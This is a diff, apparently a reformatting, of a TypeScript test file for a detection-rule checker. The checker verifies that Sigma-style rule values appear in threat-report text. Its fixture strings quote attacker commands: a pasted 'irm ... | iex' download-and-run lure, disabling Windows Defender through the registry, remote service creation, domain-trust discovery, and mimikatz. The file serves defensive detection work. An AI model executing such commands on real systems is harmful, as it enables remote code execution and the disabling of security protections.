@@ -4,16 +4,22 @@ import { fidelityCheck } from './fidelity';
 describe('fidelityCheck', () => {
   it('accepts values the article states, and the .exe of a program the article runs by its bare name', () => {
     const text = 'The actor ran sc \\\\FS02 create WinSvcHost and then nltest /domain_trusts.';
-    expect(fidelityCheck(['\\sc.exe', '\\nltest.exe', 'WinSvcHost', '/domain_trusts'], [text])).toEqual({ ok: true, unsupported_values: [] });
+    expect(fidelityCheck(['\\sc.exe', '\\nltest.exe', 'WinSvcHost', '/domain_trusts'], [text])).toEqual({
+      ok: true,
+      unsupported_values: [],
+    });
   });
 
   it('accepts both PowerShell hosts for a rule on PowerShell code the article shows', () => {
-    expect(fidelityCheck(['\\powershell.exe', '\\pwsh.exe', 'irm '], ["The lure has the user paste irm 'https://203.0.113.7/a' | iex."]).ok).toBe(true);
+    expect(
+      fidelityCheck(['\\powershell.exe', '\\pwsh.exe', 'irm '], ["The lure has the user paste irm 'https://203.0.113.7/a' | iex."]).ok,
+    ).toBe(true);
     expect(fidelityCheck(['\\pwsh.exe'], ['The actor ran cmd.exe /c whoami.']).ok).toBe(false);
   });
 
   it('accepts the Details Sysmon records for a number the article writes, and flags one it never states', () => {
-    const text = 'The actor disabled the service: reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f';
+    const text =
+      'The actor disabled the service: reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f';
     expect(fidelityCheck(['\\Services\\WinDefend', '\\Start', 'DWORD (0x00000004)'], [text])).toEqual({ ok: true, unsupported_values: [] });
     expect(fidelityCheck(['DWORD (0x00000004)'], ['Start was set to 0x4 on every host.']).ok).toBe(true);
     expect(fidelityCheck(['QWORD (0x00000001-0x00000000)'], ['The value became 4294967296.']).ok).toBe(true);
@@ -24,7 +30,10 @@ describe('fidelityCheck', () => {
 
   it('flags a value the article does not state, and a program name found only inside another word', () => {
     const text = 'The actor ran describe.ps1 from a scheduled task.';
-    expect(fidelityCheck(['\\sc.exe', '\\mimikatz.exe', 'describe.ps1'], [text])).toEqual({ ok: false, unsupported_values: ['\\sc.exe', '\\mimikatz.exe'] });
+    expect(fidelityCheck(['\\sc.exe', '\\mimikatz.exe', 'describe.ps1'], [text])).toEqual({
+      ok: false,
+      unsupported_values: ['\\sc.exe', '\\mimikatz.exe'],
+    });
   });
 });
 
@@ -38,7 +47,11 @@ describe('fidelityCheck on defanged articles', () => {
 describe('detection values the fidelity check reads', () => {
   it('leaves out blocks the condition only negates: a filter states no observation', () => {
     const rule = (condition: string) => ({
-      detection: { selection: { 'TargetObject|endswith': '\\Run\\QuillSetup' }, filter_genuine: { 'Details|contains': '\\QuillSetup.exe' }, condition },
+      detection: {
+        selection: { 'TargetObject|endswith': '\\Run\\QuillSetup' },
+        filter_genuine: { 'Details|contains': '\\QuillSetup.exe' },
+        condition,
+      },
     });
     expect(detectionValues(rule('selection and not filter_genuine'))).toEqual(['\\Run\\QuillSetup']);
     // A block the condition also uses positively is read.
